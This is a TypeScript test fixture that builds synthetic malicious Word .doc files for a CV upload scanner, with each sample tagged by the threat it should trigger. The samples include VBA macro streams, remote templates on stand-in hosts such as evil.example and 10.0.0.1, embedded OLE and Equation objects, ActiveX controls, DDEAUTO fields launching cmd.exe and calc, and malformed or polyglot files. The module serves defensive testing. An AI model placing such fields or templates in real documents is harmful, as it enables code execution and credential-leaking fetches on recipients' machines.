import { buildCfb, type CfbPart } from './build-cfb.ts';
import { buildDoc, type DocOptions, docField, wordClass, wordStreams } from './build-doc.ts';
import { buildDocx } from './build-docx.ts';
import { buildPdf } from './build-pdf.ts';
import { type HostileCv, program } from './hostile-cv.ts';

const doc = (family: string, options: DocOptions | Buffer, held: HostileCv['held']): HostileCv => ({
  family: `DOC: ${family}`,
  name: 'cv.doc',
  bytes: Buffer.isBuffer(options) ? options : buildDoc(options),
  held,
});

const classes = {
  equation: '02ce020000000000c000000000000046',
  link: '0003000000000000c000000000000046',
  package: '0c00030000000000c000000000000046',
  flash: '6ebd7cd1ae6dcf11b6c4444553540000',
  sheet: '2008020000000000c000000000000046',
  wordPicture: '0709020000000000c000000000000046',
};

const pooled = (children: readonly CfbPart[], classId = ''): DocOptions => ({
  parts: [{ name: 'ObjectPool', children: [{ name: '_1234567890', classId, children }] }],
});
const linkFlags = (() => {
  const bytes = Buffer.alloc(20);
  bytes.writeUInt32LE(0x02000001, 0);
  bytes.writeUInt32LE(1, 4);
  return bytes;
})();

function programs(): HostileCv[] {
  const vba: CfbPart[] = [
    { name: 'VBA', children: [{ name: 'dir' }, { name: '_VBA_PROJECT' }, { name: 'ThisDocument' }] },
  ];
  return [
    doc('macros', { parts: [{ name: 'Macros', children: vba }] }, 'macro'),
    doc('macros', { parts: [{ name: 'MACROS', children: vba }] }, 'macro'),
    doc('macros', { parts: [{ name: 'macros', children: [] }] }, 'macro'),
    doc('macros', { parts: vba }, 'macro'),
    doc('macros', { parts: [{ name: '_VBA_PROJECT_CUR', children: vba }] }, 'macro'),
    doc('macros', { parts: [{ name: '_vba_project' }] }, 'macro'),
    doc('macros', { parts: [{ name: 'PROJECT' }] }, 'macro'),
    doc('macros', pooled([...wordStreams(), { name: 'Macros', children: vba }], wordClass), 'macro'),
    doc('macros of Word 6', buildCfb(wordStreams({ version: 0x65, flags: 1 }), wordClass), 'oldFormat'),
    ...['\\\\10.0.0.1\\share\\x.dotm', 'http://evil.example/x.dotm', 'file://evil/x.dot', '//evil/x.dot'].map(
      (template) => doc('a template from elsewhere', { template }, 'fetches'),
    ),
    doc(
      'a template from elsewhere',
      pooled(wordStreams({ template: '\\\\10.0.0.1\\x.dot' }), classes.wordPicture),
      'fetches',
    ),
    doc('an unknown stream', { parts: [{ name: 'Unheard', content: program }] }, 'unknownPart'),
    doc('an unknown stream', { parts: [{ name: 'Unheard', children: [{ name: 'Of' }] }] }, 'unknownPart'),
  ];
}

function objects(): HostileCv[] {
  const family = 'an object inside';
  const sheet = (type: number, data: number[]) =>
    Buffer.concat([
      Buffer.from([0x09, 0x08, 0, 0]),
      Buffer.from([type & 0xff, type >> 8, data.length, 0, ...data]),
      Buffer.from([0x0a, 0, 0, 0]),
    ]);
  const book = (type: number, data: number[]) =>
    pooled([{ name: 'Workbook', content: sheet(type, data) }], classes.sheet);
  return [
    doc(family, pooled([{ name: 'Equation Native' }], classes.equation), 'embeddedObject'),
    doc(family, pooled([{ name: 'EQUATION NATIVE' }]), 'embeddedObject'),
    doc(family, pooled([{ name: '\u0001CompObj' }], classes.equation), 'embeddedObject'),
    doc(family, pooled([{ name: '\u0001Ole', content: linkFlags }]), 'fetches'),
    doc(family, pooled([{ name: '\u0001OLE', content: linkFlags }, { name: '\u0003LinkInfo' }]), 'fetches'),
    doc(family, pooled([{ name: '\u0001Ole' }], classes.link), 'embeddedObject'),
    doc(family, pooled([{ name: '\u0003OCXNAME' }, { name: 'contents' }]), 'control'),
    doc(family, pooled([{ name: '\u0003OCXDATA' }]), 'control'),
    doc(family, pooled([{ name: '\u0003ocxName' }]), 'control'),
    doc(family, pooled([{ name: '\u0001Ole10Native', content: program }], classes.package), 'embeddedObject'),
    doc(family, pooled([{ name: '\u0001oLE10nATIVE', content: program }]), 'embeddedObject'),
    doc(family, pooled([{ name: 'Package', content: buildDocx() }]), 'embeddedObject'),
    doc(family, pooled([{ name: 'CONTENTS', content: program }], classes.flash), 'embeddedObject'),
    doc(family, pooled([{ name: 'PowerPoint Document' }]), 'embeddedObject'),
    doc(family, pooled([{ name: 'Unheard' }]), 'embeddedObject'),
    doc(family, book(0x85, [0, 0, 0, 0, 0, 1, 0, 0]), 'macro'),
    doc(family, book(0x85, [0, 0, 0, 0, 0, 6, 0, 0]), 'macro'),
    doc(family, book(0x2f, [0, 0]), 'embeddedObject'),
    doc(family, book(0x1ae, [1, 0, 9, 0]), 'fetches'),
    doc(
      family,
      pooled([{ name: 'Workbook' }, { name: '_VBA_PROJECT_CUR', children: [] }], classes.sheet),
      'macro',
    ),
    doc(
      family,
      pooled(wordStreams({ text: docField('DDEAUTO c:\\\\cmd.exe') }), classes.wordPicture),
      'field',
    ),
    doc(
      family,
      pooled(
        [
          ...wordStreams(),
          { name: 'ObjectPool', children: [{ name: '_1', classId: classes.equation, children: [] }] },
        ],
        wordClass,
      ),
      'embeddedObject',
    ),
    doc(family, { parts: [{ name: '\u0001Ole10Native', content: program }] }, 'unknownPart'),
    doc(family, { parts: [{ name: 'Equation Native' }] }, 'unknownPart'),
    doc(family, { parts: [{ name: '\u0003OCXNAME' }] }, 'control'),
  ];
}

function fields(): HostileCv[] {
  const family = 'a field that runs or fetches';
  const nested = '\x13\x13QUOTE 68 68 69\x14DDE\x15AUTO c:\\\\cmd.exe\x14x\x15\r';
  const texts = [
    docField('DDEAUTO c:\\\\Windows\\\\cmd.exe "/k calc"'),
    docField(' DDE cmd "/c calc"'),
    docField('ddeauto c:\\\\cmd.exe'),
    nested,
    '\x13DDEAUTO c:\\\\cmd.exe',
    docField('INCLUDEPICTURE "http://evil.example/x.png" \\d'),
    docField('INCLUDETEXT "\\\\\\\\evil\\\\x.doc"'),
    docField('LINK Excel.Sheet.8 "\\\\\\\\evil\\\\x.xls" a'),
    docField('IMPORT "\\\\\\\\evil\\\\x.png"'),
    docField('MACROBUTTON AutoOpen click'),
    docField('SOMETHINGNEW'),
  ];
  return [
    ...texts.map((text) => doc(family, { text }, 'field')),
    ...texts.slice(0, 5).map((text) => doc(family, { text: `السيرة ${text}`, wide: true }, 'field')),
    ...['\x14', '\x15', 'PAGE\x14'].map((unlisted) => {
      const text = `\x13${unlisted}DDEAUTO c:\\\\cmd.exe\x14x\x15\r`;
      const separator = text.lastIndexOf('\x14');
      return doc(family, { text, listed: [0, separator, separator + 2] }, 'field');
    }),
    doc(family, { text: docField('DDEAUTO c:\\\\cmd.exe'), pieces: 9 }, 'field'),
    doc(family, { text: docField('DDEAUTO c:\\\\cmd.exe'), pieces: 9, wide: true }, 'field'),
    doc(family, { text: docField('CONTROL Forms.HTML') }, 'control'),
    doc(family, { text: docField('HYPERLINK "file://10.0.0.1/x"') }, 'oddLink'),
    doc(family, { text: docField('HYPERLINK "\\\\\\\\10.0.0.1\\\\x"') }, 'oddLink'),
    doc(
      family,
      buildCfb(wordStreams({ version: 0x65, text: docField('DDEAUTO c:\\\\cmd.exe') }), wordClass),
      'field',
    ),
  ];
}

function crooked(): HostileCv[] {
  const plain = buildDoc();
  const family = 'a crooked file';
  const noText = buildDoc();
  const table = noText.indexOf(Buffer.from([2, 16, 0, 0, 0]));
  noText[table] = 9;
  const otherLimit = buildDoc();
  otherLimit.writeUInt32LE(8192, 56);
  return [
    doc(family, plain.subarray(0, plain.length / 2), 'damaged'),
    doc(family, plain.subarray(0, 8), 'damaged'),
    doc(family, buildCfb([{ name: 'WordDocument' }], wordClass), 'damaged'),
    // Word 95 to us, Word 97 to LibreOffice, which then reads another text.
    ...[0x6a, 0x80, 0xbf].map((version) =>
      doc(family, buildCfb(wordStreams({ version }), wordClass), 'oldFormat'),
    ),
    doc(family, buildCfb(wordStreams({ version: 0x68, withTable: true }), wordClass), 'oldFormat'),
    doc(family, buildCfb(wordStreams().slice(0, 1), wordClass), 'damaged'),
    doc(family, noText, 'damaged'),
    doc(family, otherLimit, 'damaged'),
    doc(family, { parts: [{ name: '1TABLE', content: program }] }, 'hidden'),
    doc(family, Buffer.concat([plain, buildDocx()]), 'mixed'),
    doc(family, Buffer.concat([plain, program]), 'mixed'),
    doc(
      family,
      Buffer.concat([plain.subarray(0, 512), Buffer.from('%PDF-1.7\n'), plain.subarray(521)]),
      'damaged',
    ),
    { ...doc(family, plain, 'otherType'), name: 'cv.docx' },
    { ...doc(family, plain, 'otherType'), name: 'cv.pdf' },
    doc(family, buildPdf(), 'otherType'),
    doc(family, Buffer.from('{\\rtf1\\ansi{\\object\\objocx\\objupdate}}'), 'oldFormat'),
    doc(family, Buffer.from('{\\rt1 x}'), 'oldFormat'),
    doc(family, Buffer.concat([Buffer.from([0xdb, 0xa5, 0x2d, 0]), Buffer.alloc(500)]), 'oldFormat'),
  ];
}

export const hostileDocs = (): HostileCv[] => [...programs(), ...objects(), ...fields(), ...crooked()];
